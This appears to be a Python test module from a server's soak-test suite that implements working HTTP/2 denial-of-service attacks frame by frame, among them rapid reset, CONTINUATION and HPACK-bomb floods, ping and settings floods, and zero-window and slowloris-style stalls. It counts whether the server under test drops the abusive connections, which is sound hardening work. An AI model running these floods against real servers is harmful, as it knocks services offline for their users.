# SPDX-License-Identifier: MIT
"""Attacks over HTTP/2 in clear text with prior knowledge, frame by frame; run by soak.py.

Each returns (connections that the server ended, how many it had to end at least).
"""
import asyncio
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_WINDOW = 2**31 - 1 - 65535
TIME_TO_END = 15  # seconds that a connection may live on, once its attack is over: the longest timeout and some


def u32(value):
    return value.to_bytes(4, "big")


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + u32(stream) + payload


def setting(identifier, value):
    return identifier.to_bytes(2, "big") + u32(value)


def block(*fields):
    """Literals without indexing (RFC 7541 6.2.2), each shorter than 127 octets."""
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


def request(stream, path, method=b"GET", end=True):
    fields = block((b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"))
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, fields)


class Attacker:
    """A connection that begins properly. What it is sent is thrown away, or not even read."""

    def __init__(self, reader, writer, reads):
        self.reader, self.writer, self.stream = reader, writer, -1
        self.ended = False
        self.task = asyncio.ensure_future(self.drain()) if reads else None

    @classmethod
    async def open(cls, server, settings=b"", reads=True):
        reader, writer = await server.connect()
        if not reads:
            writer.transport.pause_reading()
        writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        return cls(reader, writer, reads)

    async def drain(self):
        try:
            while await self.reader.read(65536):
                pass
        except OSError:
            pass
        self.ended = True

    def streams(self, count):
        """Ids of `count` new streams."""
        first, self.stream = self.stream + 2, self.stream + 2 * count
        return range(first, self.stream + 1, 2)

    async def send(self, octets):
        """Returns: False when the server has ended the connection."""
        if self.ended:
            return False
        try:
            self.writer.write(octets)
            await asyncio.wait_for(self.writer.drain(), 1)
        except asyncio.TimeoutError:
            pass  # the server reads nothing more for now
        except OSError:
            self.ended = True
        return not self.ended

    async def wait_for_end(self, seconds):
        if self.task is None:
            self.writer.transport.resume_reading()
            self.task = asyncio.ensure_future(self.drain())
        await asyncio.wait([self.task], timeout=seconds)
        self.writer.transport.abort()
        return self.ended


async def flood(server, until, make, connections=5, settings=b""):
    """Sends make(attacker) as fast as possible on each connection; whoever is shown out comes again."""
    ended = 0

    async def one():
        nonlocal ended
        while time.monotonic() < until:
            attacker = await Attacker.open(server, settings)
            while time.monotonic() < until:
                if not await attacker.send(make(attacker)):
                    break
                await asyncio.sleep(0)
            ended += await attacker.wait_for_end(2)
    await asyncio.gather(*(one() for _ in range(connections)))
    return ended, connections


async def hold(server, until, first, connections, again=None, settings=b"", reads=True):
    """Opens connections that send `first` and then as good as nothing; all have to be ended in the end."""
    attackers = [await Attacker.open(server, settings, reads) for _ in range(connections)]
    for attacker in attackers:
        await attacker.send(first)
    step = 0
    while time.monotonic() < until:
        await asyncio.sleep(0.5)
        for attacker in attackers:
            if again and not attacker.ended:
                await attacker.send(again(step))
        step += 1
    ended = await asyncio.gather(*(attacker.wait_for_end(TIME_TO_END) for attacker in attackers))
    return sum(ended), connections


def for_streams(make):
    """A maker of octets for a hundred new streams each time. They are kept: the attacker must not be what is slow."""
    kept = {}

    def octets(attacker):
        ids = attacker.streams(100)
        if ids[0] not in kept:
            kept[ids[0]] = b"".join(map(make, ids))
        return kept[ids[0]]
    return octets


async def rapid_reset(server, until):
    return await flood(server, until, for_streams(
        lambda i: request(i, b"/stuck") + frame(RST_STREAM, 0, i, u32(8))))


async def provoked_resets(server, until):
    return await flood(server, until, for_streams(
        lambda i: request(i, b"/stuck", end=False) + frame(WINDOW_UPDATE, 0, i, u32(0))))


async def malformed_requests(server, until):
    return await flood(server, until, for_streams(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, block((b"Upper", b"case")))))


async def continuations(server, until):
    def make(attacker):
        begin = request(1, b"/", end=True)[:4] + b"\0" + request(1, b"/")[5:] if attacker.stream < 0 else b""
        attacker.stream = 1
        return begin + (frame(CONTINUATION, 0, 1) + frame(CONTINUATION, 0, 1, b"\x82" * 16000)) * 50
    return await flood(server, until, make)


async def hpack_bomb(server, until):
    entry = b"\x40\x01a\x7f\x81\x16" + b"x" * 2944  # one entry of 3 KiB, then references to it
    bomb = frame(HEADERS, END_HEADERS | END_STREAM, 1, (entry + b"\xbe" * 20000)[:16384])
    return await flood(server, until, lambda a: bomb)


async def repeat(server, until, octets):
    return await flood(server, until, lambda a: octets * 500)


async def settings_flood(server, until):
    return await repeat(server, until, frame(SETTINGS, 0, 0, setting(4, 70000)))


async def ping_flood(server, until):
    return await repeat(server, until, frame(PING, 0, 0, b"12345678"))


async def priority_flood(server, until):
    return await repeat(server, until, frame(PRIORITY, 0, 3, u32(0) + b"\x10") + frame(0x10, 0, 0, u32(3) + b"u=1"))


async def empty_data(server, until):
    def make(attacker):
        begin = b"" if attacker.stream > 0 else request(1, b"/count", b"POST", end=False)
        attacker.stream = 1
        return begin + frame(DATA, 0, 1) * 500
    return await flood(server, until, make)


async def unread_pings(server, until):
    """Nothing of what is owed for the pings is taken."""
    octets = frame(PING, 0, 0, b"12345678") * 500
    attackers = [await Attacker.open(server, reads=False) for _ in range(10)]
    while time.monotonic() < until - 3:
        for attacker in attackers:
            await attacker.send(octets)
        await asyncio.sleep(0.05)
    return sum(await asyncio.gather(*(a.wait_for_end(TIME_TO_END) for a in attackers))), len(attackers)


async def zero_window(server, until):
    """A hundred large answers for each, and no window to send them in."""
    first = b"".join(request(i, b"/big") for i in range(1, 200, 2))
    return await hold(server, until, first, 20, settings=setting(4, 0))


async def dribbled_window(server, until):
    first = b"".join(request(i, b"/big") for i in range(1, 20, 2))
    dribble = b"".join(frame(WINDOW_UPDATE, 0, i, u32(1)) for i in range(1, 20, 2))
    return await hold(server, until, first, 20, lambda step: dribble, settings=setting(4, 0))


async def never_reads(server, until):
    first = frame(WINDOW_UPDATE, 0, 0, u32(MAX_WINDOW)) + b"".join(request(i, b"/big") for i in range(1, 100, 2))
    return await hold(server, until, first, 20, settings=setting(4, MAX_WINDOW), reads=False)


async def hoarding(server, until):
    """As many uploads as allowed, of which nothing ever comes."""
    first = b"".join(request(i, b"/count", b"POST", end=False) for i in range(1, 400, 2))
    return await hold(server, until, first, 50)


async def unread_uploads(server, until):
    """Fills every window of handlers that never read."""
    first = b"".join(request(i, b"/upload/ignored", b"POST", end=False) for i in range(1, 20, 2))
    piece = b"".join(frame(DATA, 0, i, b"x" * 16000) for i in range(1, 20, 2))
    attackers = [await Attacker.open(server) for _ in range(8)]
    for attacker in attackers:
        await attacker.send(first)
        for _ in range(10):
            await attacker.send(piece)
    await asyncio.sleep(max(0, until - time.monotonic()))
    for attacker in attackers:
        attacker.writer.transport.abort()
    return 0, 0  # they break no rule: the handlers' own business


async def dribbled_head(server, until):
    octets = request(1, b"/" + b"a" * 60)
    return await hold(server, until, octets[:9], 100, lambda step: octets[9 + step:10 + step])


async def dribbled_frames(server, until):
    """A header block whose frames come one by one, each with an octet."""
    begin = frame(HEADERS, END_STREAM, 1, b"\x82")
    return await hold(server, until, begin, 100, lambda step: frame(CONTINUATION, 0, 1, b"\x84") if step < 6 else b"")


async def silent(server, until):
    return await hold(server, until, b"", 200)


ATTACKS = {"h2_" + function.__name__: (function, [], None, True) for function in (
    rapid_reset, provoked_resets, malformed_requests, continuations, hpack_bomb, settings_flood, ping_flood,
    priority_flood, empty_data, unread_pings, zero_window, dribbled_window, never_reads, hoarding, unread_uploads,
    dribbled_head, dribbled_frames, silent)}
